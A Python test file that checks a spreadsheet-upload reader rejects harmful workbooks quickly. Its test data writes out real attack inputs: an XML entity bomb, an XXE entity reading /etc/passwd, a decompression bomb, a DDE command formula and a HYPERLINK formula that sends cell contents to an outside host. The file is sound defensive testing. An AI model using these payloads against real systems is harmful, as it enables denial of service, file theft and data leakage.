"""Files that somebody might upload to do harm, or by mistake: each is refused at the door, quickly."""

import time
import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from content.workbook import read_workbook
from content.workbook_door import MOST_BYTES
from tests.chats import handbook
from tests.workbooks import changed, saved, workbook_of

pytestmark = pytest.mark.slow

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def repacked(change: Callable[[str, bytes], bytes], *more: tuple[str, bytes]) -> bytes:
    """A good workbook with its parts changed."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(workbook_of())) as good, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as bad:
        for name in good.namelist():
            bad.writestr(name, change(name, good.read(name)))
        for name, content in more:
            bad.writestr(name, content)
    return made.getvalue()


def as_it_is(name: str, content: bytes) -> bytes:
    return content


def with_head(head: str) -> Callable[[str, bytes], bytes]:
    def change(name: str, content: bytes) -> bytes:
        return head.encode() + content if name == "xl/sharedStrings.xml" else content

    return change


def in_utf_16(name: str, content: bytes) -> bytes:
    return content.decode().encode("utf-16") if name == "xl/sharedStrings.xml" else content


def with_macros(name: str, content: bytes) -> bytes:
    return content.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")


def zeros(megabytes: int) -> bytes:
    return bytes(megabytes * 1024 * 1024)


def with_password() -> bytes:
    """What Excel writes for a workbook with a password begins so; the rest is of no importance."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le") + bytes(4096)


def encrypted_zip() -> bytes:
    """The flag of a member with a password."""
    content = bytearray(workbook_of())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    content[6] |= 1
    return bytes(content)


def not_a_workbook() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("word.txt", "hello")
    return made.getvalue()


def with_duplicate() -> bytes:
    with pytest.warns(UserWarning, match="Duplicate name"):
        return repacked(as_it_is, ("xl/sharedStrings.xml", b"<sst/>"))


REFUSED: list[tuple[str, str, Callable[[], bytes]]] = [
    ("C101", "too large", lambda: b"PK\x03\x04" + zeros(3)),
    ("C102", "empty", lambda: b""),
    ("C102", "a picture", lambda: b"\x89PNG\r\n" + bytes(100)),
    ("C102", "CSV", lambda: b"type,name\nselect_one,q01\n"),
    ("C102", "another zip", not_a_workbook),
    ("C103", "with a password", with_password),
    ("C103", "an encrypted member", encrypted_zip),
    ("C104", "macros", lambda: repacked(with_macros)),
    ("C104", "a program inside", lambda: repacked(as_it_is, ("xl/vbaProject.bin", b"\0"))),
    ("C105", "cut off", lambda: workbook_of()[:-400]),
    (
        "C105",
        "damaged inside",
        lambda: workbook_of().replace(b"PK\x03\x04", b"PK\x03\x05", 3).replace(b"PK\x03\x05", b"PK\x03\x04", 1),
    ),
    ("C105", "100 MB of zeros", lambda: repacked(as_it_is, ("xl/media/a.xml", zeros(100)))),
    ("C105", "many parts", lambda: repacked(as_it_is, *((f"xl/{n}.xml", b"<a/>") for n in range(300)))),
    ("C105", "a part twice", with_duplicate),
    ("C105", "entities", lambda: repacked(with_head(BOMB))),
    ("C105", "entities from outside", lambda: repacked(with_head(OUTSIDE))),
    ("C105", "another encoding", lambda: repacked(in_utf_16)),
    ("C105", "no XML", lambda: repacked(lambda name, old: b"<" if name == "xl/workbook.xml" else old)),
    (
        "C107",
        "no cells",
        lambda: repacked(lambda name, old: b"<a/>" if name == "xl/worksheets/sheet1.xml" else old),
    ),
]


@pytest.mark.parametrize(
    ("code", "make"), [(code, make) for code, _, make in REFUSED], ids=[n for _, n, _ in REFUSED]
)
def test_it_is_refused_quickly(code: str, make: Callable[[], bytes]) -> None:
    content = make()
    begun = time.monotonic()
    read = read_workbook(content, handbook())
    assert time.monotonic() - begun < 5
    assert read.form is None
    assert code in {each.code for each in read.problems}, [str(each) for each in read.problems]


def test_the_largest_that_is_read_is_read_in_time() -> None:
    """Rows as far as Excel has them, and cells as many as fit."""
    book = load_workbook(BytesIO(workbook_of()))
    sheet = book["survey"]
    sheet.cell(1_048_576, 1).number_format = "@"
    for row in range(30, 990):
        for column in range(1, 58):
            sheet.cell(row, column, "x")
    content = saved(book)
    assert len(content) < MOST_BYTES
    begun = time.monotonic()
    read = read_workbook(content, handbook())
    assert time.monotonic() - begun < 10
    assert read.problems


@pytest.mark.parametrize("row", ["99999999999999", "1048577"])
def test_a_row_that_no_sheet_has_is_not_waited_for(row: str) -> None:
    def far_down(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        return content.replace(
            b"</sheetData>", f'<row r="{row}"><c r="A{row}"><v>1</v></c></row></sheetData>'.encode()
        )

    begun = time.monotonic()
    assert read_workbook(repacked(far_down), handbook()).problems
    assert time.monotonic() - begun < 5


def test_formulas_and_links_to_other_files_lead_nowhere() -> None:
    attack = '=HYPERLINK("http://example.org/?"&survey!D2, "x")'
    outside = "='[1]other'!A1"

    def spoil(book: Any) -> None:
        book["survey"]["D2"] = attack
        book["survey"]["D3"] = outside
        book["survey"]["Q2"] = "=cmd|'/c calc'!A0"

    read = read_workbook(changed(spoil), handbook())
    assert {(each.code, str(each.line)) for each in read.problems} >= {
        ("C112", "survey!D2"),
        ("C112", "survey!D3"),
        ("C112", "survey!Q2"),
    }


def test_words_that_look_like_a_formula_stay_words() -> None:
    """Typed with ' before it, or into a cell whose format is text."""

    def write(book: Any) -> None:
        cell = book["survey"]["Q2"]
        cell.value = "=1+1"
        cell.data_type = "s"

    read = read_workbook(changed(write), handbook())
    assert read.form is not None
    assert read.form.questionnaire.questions[0].why == "=1+1"


def test_other_sheets_and_looks_are_no_problem() -> None:
    def add(book: Any) -> None:
        book.create_sheet("ghi chú")["A1"] = "của tôi"
        book["survey"].sheet_state = "hidden"

    assert read_workbook(changed(add), handbook()).problems == ()


def test_an_empty_workbook_is_told_what_it_lacks() -> None:
    read = read_workbook(saved(Workbook()), handbook())
    assert [each.code for each in read.problems] == ["C106", "C106", "C106"]
